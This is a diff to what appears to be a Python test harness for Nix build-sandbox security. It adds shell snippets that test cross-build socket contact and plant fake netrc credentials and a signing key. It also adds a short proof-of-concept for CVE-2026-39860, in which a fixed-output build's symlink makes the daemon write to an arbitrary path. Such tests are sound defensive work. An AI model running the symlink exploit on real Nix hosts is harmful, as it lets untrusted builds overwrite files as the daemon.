@@ -233,14 +233,54 @@ PY
 }
 """
 
-# The host's own and its manager's environment, and what the host's Nix knows of passwords and lends to its own builds. Both
-# daemons start anew.
+# Two fixed-output builds of two connections: one listens, and when it says so the other one comes.
+MEET: Final = r"""
+meet() { # NAME FAMILY ADDRESS
+  cat > listen.py <<PY
+import socket
+s = socket.socket(socket.$2)
+s.bind($3)
+s.listen()
+print("listening", flush=True)
+s.settimeout(120)
+peer, _ = s.accept()
+peer.sendall(b"met-another-build")
+peer.close()
+PY
+  cat > come.py <<PY
+import socket
+s = socket.socket(socket.$2)
+s.settimeout(10)
+s.connect($3)
+print(s.recv(100).decode(), flush=True)
+PY
+  for part in listen come; do
+    program=$(nix-store --add ./$part.py)
+    derivation "$part-$1" "$(in_store "$python")/bin/python3 $(in_store "$program") 2>&1" "$fixed"
+  done
+  nix-build --no-out-link "listen-$1.nix" > listen.log 2>&1 &
+  until grep -q listening listen.log || ! kill -0 $!; do sleep 0.1; done
+  grep -o listening listen.log
+  nix-build --no-out-link "come-$1.nix" 2>&1 | sed "s/^.*> //"
+  kill $!
+  wait
+}
+"""
+
+# The host's own and its manager's environment, and what the host's Nix knows of passwords, lends to its own builds and
+# signs them with. Both daemons start anew.
 LENT: Final = r"""
 systemctl set-environment "NIXPROV_ATTACK=environment-$stamp"
 address=$(cat /proc/net/fib_trie | sed -n 's/.*|-- \(10\..*\.1[0-9]\)$/\1/p' | head -n 1)
 printf 'machine %s login attacker password secret-%s\n' "$address" "$stamp" > /etc/nix/netrc
-grep -v impure-env /etc/nix/nix.conf > /etc/nix/nix.conf.new
-printf 'extra-experimental-features = configurable-impure-env\nimpure-env = NIXPROV_LENT=lent-%s\n' "$stamp" >> /etc/nix/nix.conf.new
+[ -e /etc/nix/owner-key ] ||
+  (umask 077; nix --extra-experimental-features nix-command key generate-secret --key-name owner > /etc/nix/owner-key)
+grep -vE 'impure-env|owner-key' /etc/nix/nix.conf > /etc/nix/nix.conf.new
+cat >> /etc/nix/nix.conf.new <<CONF
+extra-experimental-features = configurable-impure-env recursive-nix
+impure-env = NIXPROV_LENT=lent-$stamp
+secret-key-files = /etc/nix/owner-key
+CONF
 mv -f /etc/nix/nix.conf.new /etc/nix/nix.conf
 systemctl restart nix-daemon.service
 systemctl stop nixprov-nix-daemon.service
@@ -299,6 +339,17 @@ if len(held) > 64 + 16:
     print("flooded")
 PY
 """
+# A fixed-output build whose output the daemon copies to where a link of the builder's points (CVE-2026-39860).
+THROUGH_A_LINK: Final = r"""
+target="@TARGET@"
+derivation through "c=$(in_store $coreutils)/bin; echo pwned-$stamp > \$out; \$c/ln -s $target \$out.tmp; \$c/ls -l \$out.tmp; exit 0" "$fixed"
+nix-build --no-out-link through.nix
+"""
+
+
+def through_a_link(target: str) -> str:
+    return TOOLS + THROUGH_A_LINK.replace("@TARGET@", target)
+
 
 # More builders than there are processors: each says when it starts and ends, the job counts the most at a time.
 MANY_BUILDERS: Final = r"""
